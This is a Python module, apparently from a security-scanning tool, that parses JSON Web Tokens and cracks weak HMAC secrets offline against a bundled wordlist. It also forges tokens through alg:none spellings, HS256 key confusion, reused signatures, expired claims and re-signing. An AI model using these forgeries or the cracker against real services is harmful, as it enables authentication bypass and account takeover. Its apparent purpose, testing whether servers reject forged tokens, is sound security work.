"""JSON Web Tokens with the standard library only: read, forge, and crack weak HMAC keys offline.

Pure functions (the wordlist is package data, read once). A token is cracked by recomputing its
HMAC with each of 75,026 published weak secrets (``data/jwt-secrets.txt.gz``, sources and
licences in ``data/NOTICE.md``); nothing is sent to the server for that, and it takes well
under a second (``bench/jwt_crack.py``).
"""

from __future__ import annotations

import base64
import binascii
import gzip
import hashlib
import hmac
import json
import time
from dataclasses import dataclass
from functools import cache
from importlib.resources import files

from assay.domain.json import JsonObject

WEAK_SECRETS: tuple[str, ...] = (
    "secret",
    "changeme",
    "password",
    "123456",
    "key",
    "jwt_secret",
    "jwt-secret",
    "jwtsecret",
    "your-256-bit-secret",
    "your-secret-key",
    "secretkey",
    "secret_key",
    "supersecret",
    "mysecret",
    "admin",
    "test",
    "dev",
    "default",
    "s3cr3t",
    "qwerty",
    "letmein",
    "token",
    "SECRET_KEY",
    "change-me",
    "changeit",
)
_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_DIGEST_NAMES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")  # libraries that lower-case, or compare exactly


@cache
def wordlist() -> tuple[bytes, ...]:
    """The built-in weak secrets first, then the published wordlist, as bytes (read once)."""
    raw = files("assay.agents.analysis.security.attacks").joinpath("data/jwt-secrets.txt.gz").read_bytes()
    words = gzip.decompress(raw).decode("utf-8").split("\n")
    seen = dict.fromkeys(w.encode() for w in (*WEAK_SECRETS, *words) if w)
    return tuple(seen)


def b64url_encode(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@dataclass(frozen=True)
class Jwt:
    header: JsonObject
    payload: JsonObject
    signing_input: str  # "<header>.<payload>" as issued
    signature: str  # base64url, as issued

    @property
    def alg(self) -> str:
        alg = self.header.get("alg")
        return alg if isinstance(alg, str) else ""


def _json_part(text: str) -> JsonObject | None:
    try:
        value = json.loads(b64url_decode(text))
    except (ValueError, binascii.Error):
        return None
    return value if isinstance(value, dict) else None


def parse_jwt(token: str) -> Jwt | None:
    """The token's parts when it is a JWS compact token (three base64url parts, JSON header)."""
    parts = token.strip().split(".")
    if len(parts) != 3:
        return None
    header, payload = _json_part(parts[0]), _json_part(parts[1])
    if header is None or payload is None or "alg" not in header:
        return None
    return Jwt(header, payload, f"{parts[0]}.{parts[1]}", parts[2])


def _part(value: JsonObject) -> str:
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode())


def sign(alg: str, signing_input: str, key: str) -> str:
    digest = _HASHES[alg]
    return b64url_encode(hmac.new(key.encode(), signing_input.encode(), digest).digest())


def encode(header: JsonObject, payload: JsonObject, key: str | None) -> str:
    """A compact token; signed with HMAC when ``key`` is given, else with an empty signature."""
    signing_input = f"{_part(header)}.{_part(payload)}"
    alg = str(header.get("alg", ""))
    signature = sign(alg, signing_input, key) if key is not None and alg in _HASHES else ""
    return f"{signing_input}.{signature}"


def crack(token: Jwt, candidates: tuple[str, ...] | None = None) -> str | None:
    """The HMAC key among ``candidates`` (default: the whole wordlist) that reproduces the signature.

    Compares raw digests (the signature decoded once) with the one-shot C ``hmac.digest``: about
    75,000 keys in a few tens of milliseconds.
    """
    name = _DIGEST_NAMES.get(token.alg)
    if name is None:
        return None
    try:
        expected = b64url_decode(token.signature)
    except (ValueError, binascii.Error):
        return None
    keys = wordlist() if candidates is None else tuple(c.encode() for c in candidates)
    message = token.signing_input.encode()
    digest = hmac.digest
    for key in keys:
        if digest(key, message, name) == expected:
            return key.decode()
    return None


def tampered_payload(token: Jwt) -> JsonObject:
    """The token's claims plus one marker claim: a server that checks signatures must refuse it."""
    return {**token.payload, "assay_tampered": True}


def alg_none(token: Jwt, spelling: str = "none") -> str:
    """The same claims, ``alg: none`` (or another spelling of it) and no signature."""
    return encode({**token.header, "alg": spelling}, tampered_payload(token), None)


def expired(token: Jwt, key: str, now: float | None = None) -> str:
    """The genuine claims, expired an hour ago, signed with ``key``: only an expiry check refuses it."""
    moment = int(now if now is not None else time.time())
    return encode(token.header, {**token.payload, "iat": moment - 7200, "exp": moment - 3600}, key)


def hmac_with_public_key(token: Jwt, public_key: bytes) -> str:
    """Key confusion: changed claims as HS256, the HMAC key being the server's RSA/EC public key bytes."""
    header = {**token.header, "alg": "HS256"}
    signing_input = f"{_part(header)}.{_part(tampered_payload(token))}"
    mac = hmac.new(public_key, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64url_encode(mac)}"


def old_signature(token: Jwt) -> str:
    """Changed claims with the signature of the issued token."""
    header = token.signing_input.split(".")[0]
    return f"{header}.{_part(tampered_payload(token))}.{token.signature}"


def resigned(token: Jwt, key: str) -> str:
    """Changed claims signed with ``key`` (a weak secret found offline)."""
    return encode(token.header, tampered_payload(token), key)


def bearer_token(headers: dict[str, str]) -> tuple[str, str] | None:
    """(header name, token) of the JWT a session sends, if it sends one."""
    for name, value in headers.items():
        scheme, _, rest = value.partition(" ")
        candidate = rest if rest and scheme.lower() in {"bearer", "jwt", "token"} else value
        if parse_jwt(candidate) is not None:
            return name, candidate
    return None
